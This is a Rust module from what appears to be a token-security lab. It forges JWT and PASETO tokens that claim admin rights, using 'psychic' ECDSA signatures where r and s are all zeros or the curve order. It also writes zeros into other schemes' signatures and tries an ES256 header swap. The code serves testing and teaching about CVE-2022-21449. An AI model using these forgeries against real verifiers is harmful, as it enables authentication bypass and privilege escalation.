//! Psychic signatures: zeros, or the order of the curve, where an ECDSA
//! signature belongs.
//!
//! The flawed assumption: whatever satisfies the equation is a signature. The
//! equation is about numbers from one to the order of the curve, and checking
//! that they are is the first step of verification (SEC 1 §4.1.4, FIPS 186-5
//! §6.4.2). Without it zero equals zero, for every message and every key.
//! Bitten: Java 15 to 18 (CVE-2022-21449), Stark Bank's ecdsa-java 1.0.0
//! (CVE-2021-43570).
//!
//! Where another algorithm signs, its own length of zeros is tried, and an
//! ES256 token of zeros in case the verifier lets the header choose.

use tokenlab_harness::malleability::rewrite_authenticated_part;
use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::ecdsa::Curve;
use crate::mint::{self, Signature};
use crate::notebook::Notebook;
use crate::scheme::{Purpose, Scheme, Version};
use crate::weakness::Weakness;

pub(super) struct PsychicSignature;

static PROFILE: AttackProfile = AttackProfile {
    id: "psychic-signature",
    title: "Psychic signature",
    assumption: "Whatever satisfies the equation of ECDSA is a signature.",
    class: AttackClass::Cryptography,
    given: &[],
    isolated: false,
    breaks: &[Weakness::SignatureRangeUnchecked],
    references: &[
        (
            "RFC 8725 §3.4",
            "Inputs of cryptographic operations are validated; the caller can't do it for the library.",
        ),
        ("RFC 7518 §3.4", "An ES256 signature is r and s, 32 bytes each."),
        (
            "CVE-2022-21449",
            "Java 15 to 18 take r = s = 0 for a signature of anything; fixed by the update of April 2022.",
        ),
        (
            "CVE-2021-43570",
            "Stark Bank ecdsa-java 1.0.0 does not check the range either.",
        ),
    ],
    lesson: include_str!("../../lessons/psychic-signature.md"),
};

impl Attack for PsychicSignature {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        notes.step(
            "Rewrites the claims: the subject becomes admin.",
            mint::jwt_payload(view.wanted())?,
        );
        let Some(curve) = Curve::of(view.scheme()) else {
            return Err(CannotForge::Inexpressible {
                why: "nothing here is signed with ECDSA, so there are no r and s that could be zero".into(),
                tried: zeros_elsewhere(view, notes)?,
            });
        };
        let zeros = vec![0; 2 * curve.scalar_bytes()];
        let orders = [curve.order(), curve.order()].concat();
        let mut forgeries = Vec::new();
        for (variant, action, signature) in [
            ("zeros", "Writes zero for r and for s.", zeros),
            (
                "order-of-the-curve",
                "Writes the order of the curve for r and for s: that is zero, too, once it is reduced.",
                orders,
            ),
        ] {
            let token = signed_with(view, &signature)?;
            notes.variant_step(variant, action, mint::hexadecimal(&signature));
            forgeries.push(Forgery::new(variant, token));
        }
        Ok(forgeries)
    }
}

/// The wanted claims in the honest token's frame, under any signature.
fn signed_with(view: &AttackerView<'_>, signature: &[u8]) -> Result<String, CannotForge> {
    if let Scheme::Paseto(version, _) = view.scheme() {
        let body = [mint::paseto_payload(view.wanted())?.as_bytes(), signature].concat();
        return Ok(format!("{}.public.{}", version.name(), mint::part(body)));
    }
    let signature = Signature::Copied(mint::part(signature));
    Ok(mint::jws(&view.sample_header(), view.wanted(), &signature)?)
}

/// Zeros where other formats have their signature, tag or id.
fn zeros_elsewhere(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
    let failed = || CannotForge::Failed("the sample token has no signature".into());
    let mut length = 0;
    let in_place = rewrite_authenticated_part(view.bare_sample(), |bytes| {
        length = bytes.len();
        let kept = match view.scheme() {
            Scheme::Paseto(version, purpose) => length.checked_sub(authenticator_bytes(version, purpose))?,
            _ => 0,
        };
        bytes.truncate(kept);
        bytes.resize(length, 0);
        Some(())
    });
    let token = match view.scheme() {
        Scheme::Jwt(_) => {
            in_place.ok_or_else(failed)?;
            signed_with(view, &vec![0; length])?
        }
        Scheme::Paseto(version, Purpose::Public) => {
            signed_with(view, &vec![0; authenticator_bytes(version, Purpose::Public)])?
        }
        Scheme::Session(_) => "A".repeat(view.bare_sample().len()),
        _ => in_place.ok_or_else(failed)?,
    };
    notes.variant_step(
        "zeros",
        "Writes zeros where this token has its signature, its tag or its name.",
        token.as_str(),
    );
    let mut tried = vec![Forgery::analogue(
        "zeros",
        token,
        "zeros stand where the format has something else than r and s",
    )];
    if let Scheme::Jwt(_) = view.scheme() {
        let signature = Signature::Copied(mint::part([0; 64]));
        let token = mint::jws(&view.header_with_alg("ES256"), view.wanted(), &signature)?;
        notes.variant_step(
            "zeros-as-es256",
            "Names ES256 in the header and writes zero for r and for s, in case the header chooses.",
            token.as_str(),
        );
        tried.push(Forgery::analogue(
            "zeros-as-es256",
            token,
            "the header asks for ECDSA, which the verifier's key is not for",
        ));
    }
    Ok(tried)
}

/// Length of the signature or tag at the end of a PASETO's body.
const fn authenticator_bytes(version: Version, purpose: Purpose) -> usize {
    match (version, purpose) {
        (Version::V1, Purpose::Public) => 256,
        (Version::V3, Purpose::Public) => 96,
        (_, Purpose::Public) => 64,
        (Version::V1 | Version::V3, Purpose::Local) => 48,
        (Version::V4, Purpose::Local) => 32,
        (Version::V2, Purpose::Local) => 16,
    }
}
